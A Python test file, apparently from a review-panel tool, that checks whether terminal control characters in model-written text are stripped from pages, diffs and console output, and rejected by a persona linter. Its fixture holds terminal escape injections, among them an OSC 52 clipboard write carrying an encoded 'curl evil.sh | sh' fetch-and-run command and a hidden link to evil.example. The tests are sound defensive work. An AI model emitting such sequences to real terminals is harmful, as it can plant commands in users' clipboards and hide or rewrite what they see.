"""Issue 12, item 10: control characters never reach a terminal or a page.

Model-written text carries OSC 52 (clipboard write), OSC 8 (a hidden link), clear-screen, a
bell and a bidi override; the pages, the diff (every format) and the live display show the
words and none of the controls. Persona files holding them fail `personas lint`.
"""

from __future__ import annotations

import io

import pytest
from pagedata import make_manifest, make_result, standard_results
from rich.console import Console
from typer.testing import CliRunner

from panel.cli import app
from panel.cli.display import LiveDisplay, render_summary
from panel.inputs.textsafety import terminal_safe
from panel.pages.diff import compare_runs
from panel.pages.diffformat import format_diff
from panel.pages.records import build_record
from panel.pages.render import render_html, render_index_markdown, render_markdown
from panel.run.events import ReviewFinished

HOSTILE = (
    "Great\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 tool\x1b[2J\x1b[H "
    "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\ \x07bell \u202eesrever\u202c "
    "\x9b31mc1\r overwrite"
)
CONTROLS = ("\x1b", "\x07", "\x9b", "\u202e", "\u202c", "\r", "52;c;", "evil.example")


def _clean(text: str) -> None:
    found = [c for c in CONTROLS if c in text]
    assert found == [], found


def test_the_sanitiser_keeps_words_newlines_and_tabs() -> None:
    assert terminal_safe(HOSTILE) == "Great tool click bell esrever c1 overwrite"
    assert terminal_safe("line\n\tindented — é 中文 😀") == "line\n\tindented — é 中文 😀"


def _hostile_results() -> dict[tuple[str, str], object]:
    results = dict(standard_results())
    results[("ledgerline", "skeptic")] = make_result(
        "ledgerline", "skeptic", ship=False, headline=HOSTILE, quote=HOSTILE + " quote"
    )
    return results


def test_pages_never_carry_controls(tools, personas, manifest) -> None:  # type: ignore[no-untyped-def]
    record = build_record(*tools, personas, manifest, _hostile_results())
    for page in (render_html(record), render_markdown(record)):
        _clean(page)
        assert "Great tool" in page
    _clean(render_index_markdown([record]))


def test_diff_output_never_carries_controls(manifest) -> None:  # type: ignore[no-untyped-def]
    diff = compare_runs(
        (make_manifest("run-a"), standard_results()), (make_manifest("run-b"), _hostile_results())
    )
    assert diff.changes
    for fmt in ("text", "md", "html", "json"):
        _clean(format_diff(diff, fmt))


def test_the_display_never_prints_controls() -> None:
    out = io.StringIO()
    console = Console(file=out, force_terminal=False, color_system=None, width=200)
    result = make_result("ledgerline", "skeptic", ship=True, headline=HOSTILE, name=HOSTILE)
    with LiveDisplay(console) as display:
        display(ReviewFinished(result))
    _clean(out.getvalue())
    assert "Great tool" in out.getvalue()


def test_the_summary_never_prints_controls(tmp_path) -> None:  # type: ignore[no-untyped-def]
    from panel.run.events import RunOutcome

    results = list(_hostile_results().values())
    outcome = RunOutcome(
        run_id="run-a",
        run_dir=tmp_path,
        manifest=make_manifest("run-a"),
        results=results,
        pending=[],
        reused=0,
        requested=len(results),
        max_in_flight=1,
    )
    out = io.StringIO()
    render_summary(Console(file=out, color_system=None, width=300), outcome)
    _clean(out.getvalue())


@pytest.mark.parametrize(
    ("field", "value"),
    [("name", '"Evil\\e]52;c;eA==\\a"'), ("lens", '"clear\\e[2J"'), ("title", '"rtl \\u202e"')],
)
def test_personas_lint_rejects_control_characters(tmp_path, monkeypatch, field, value) -> None:  # type: ignore[no-untyped-def]
    monkeypatch.chdir(tmp_path)
    (tmp_path / "personas").mkdir()
    front = {
        "id": "hostile",
        "name": '"Hostile"',
        "title": '"t"',
        "order": "9",
        "lens": '"l"',
        "ship_bar": '"b"',
    }
    front[field] = value
    lines = [f"{k}: {v}" for k, v in front.items()]
    body = "A persona body long enough to pass the minimum word count of the linter. " * 3
    text = "---\n" + "\n".join(lines) + "\nrubric:\n  - id: q1\n    question: Why?\n---\n" + body
    (tmp_path / "personas" / "hostile.md").write_text(text)
    result = CliRunner().invoke(app, ["personas", "lint"])
    assert result.exit_code != 0
    assert "control characters" in result.stdout + result.stderr
